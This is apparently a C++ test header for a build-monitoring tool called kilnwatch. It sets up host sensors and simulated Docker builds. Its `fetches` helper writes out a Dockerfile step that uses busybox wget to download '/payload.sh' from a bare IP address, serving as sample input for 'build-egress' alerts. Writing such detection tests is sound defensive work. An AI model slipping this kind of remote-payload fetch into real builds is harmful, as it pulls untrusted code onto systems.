// Sensors that share one real server: what their hosts do is played (tests/corpus/site.h), the
// pipeline, the fleet and the server are those that run.
#pragma once

#include <algorithm>
#include <catch2/catch_test_macros.hpp>
#include <chrono>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "app/pipeline.h"
#include "baseline/memory_store.h"
#include "corpus/site.h"
#include "fleet/dialer.h"
#include "fleet/shared.h"
#include "harness/mangle.h"
#include "kilnwatch/v1/alert.pb.h"

namespace kilnwatch::test {

using Alerts = std::vector<v1::Alert>;

inline domain::HostFacts host_facts(const std::string& name) {
  return {name, "boot-" + name, "machine-" + name, "6.1.0", 1'700'000'000'000'000'000};
}

inline std::unique_ptr<fleet::Shared> join(std::uint16_t port, const std::string& sensor,
                                           const std::string& host) {
  fleet::Settings settings;
  settings.server = {"127.0.0.1", port};
  settings.sensor = sensor;
  settings.host = host;
  return std::make_unique<fleet::Shared>(std::make_unique<fleet::SocketDialer>("127.0.0.1"),
                                         std::move(settings));
}

// One host's sensor.
class HostSensor {
 public:
  // `patience`: as of a recording; 0: live.
  HostSensor(const domain::HostFacts& host, std::uint16_t port, std::chrono::milliseconds patience)
      : shared_(port == 0 ? nullptr : join(port, digits_of(host.name), host.name)),
        pipeline_(host, seen_, nullptr, [this](const v1::Alert& alert) {
          alerts_.push_back(alert);
          if (on_alert_) on_alert_(alert);
        }) {
    if (shared_) pipeline_.join(*shared_, patience);
  }

  void push(const Events& events) {
    for (const auto& event : events) pipeline_.push(event);
  }
  app::Pipeline& pipeline() { return pipeline_; }
  fleet::Shared& shared() { return *shared_; }
  const Alerts& alerts() const { return alerts_; }
  void on_alert(std::function<void(const v1::Alert&)> tell) { on_alert_ = std::move(tell); }
  bool is_settled() const { return shared_->stats().exchange.waiting == 0; }

 private:
  static std::string digits_of(const std::string& name) {
    std::string out;
    for (const char c : name) out += "0123456789abcdef"[static_cast<unsigned char>(c) % 16];
    return out;
  }
  baseline::MemoryStore seen_;
  std::unique_ptr<fleet::Shared> shared_;
  Alerts alerts_;
  std::function<void(const v1::Alert&)> on_alert_;
  app::Pipeline pipeline_;
};

inline Alerts of_rule(const Alerts& alerts, const std::string& rule) {
  Alerts out;
  std::copy_if(alerts.begin(), alerts.end(), std::back_inserter(out),
               [&](const auto& alert) { return alert.rule() == rule; });
  return out;
}

inline bool has_reason(const v1::Alert& alert, const std::string& code) {
  return std::any_of(alert.reasons().begin(), alert.reasons().end(),
                     [&](const auto& reason) { return reason.code() == code; });
}

// How many build-egress alerts name the address.
inline std::size_t told(const Alerts& alerts, const std::string& ip) {
  return static_cast<std::size_t>(
      std::count_if(alerts.begin(), alerts.end(), [&](const auto& alert) {
        return alert.rule() == "build-egress" && alert.connection().destination().ip() == ip;
      }));
}

// A step that fetches from an address without a name.
inline corpus::Step fetches(const std::string& ip) {
  corpus::Fetch fetch;
  fetch.name = fetch.address = ip;
  fetch.port = 80;
  fetch.tls = false;
  fetch.path = "/payload.sh";
  fetch.program = "/bin/busybox";
  fetch.args = {"wget", "-O", "/payload.sh", "http://" + ip + "/payload.sh"};
  fetch.answer = corpus::Answer::kNothing;
  return {"RUN wget -O /payload.sh http://" + ip + "/payload.sh", true, false, {}, {fetch}};
}

inline corpus::Build build_of(const std::string& id, const std::vector<std::string>& ips) {
  corpus::Build build;
  build.id = id;
  build.builder = corpus::Builder::kClassic;
  build.tag = "app-" + id + ":1";
  build.asker.args = {"docker", "build", "-t", build.tag, "."};
  build.plan.bases = {"registry.test/base:1"};
  build.plan.steps = {{"FROM registry.test/base:1", false, true, {}, {}}};
  for (const auto& ip : ips) build.plan.steps.push_back(fetches(ip));
  for (const auto& step : build.plan.steps) build.plan.dockerfile += step.text + "\n";
  build.pace = 100;
  return build;
}

// Of an image that the host itself did not build: by id or name.
inline corpus::Build run_of(const std::string& image) {
  corpus::Build build;
  build.id = "run";
  build.builds = false;
  build.builder = corpus::Builder::kClassic;
  build.run.emplace();
  build.run->name = "deployed";
  build.run->image = image;
  return build;
}

}  // namespace kilnwatch::test
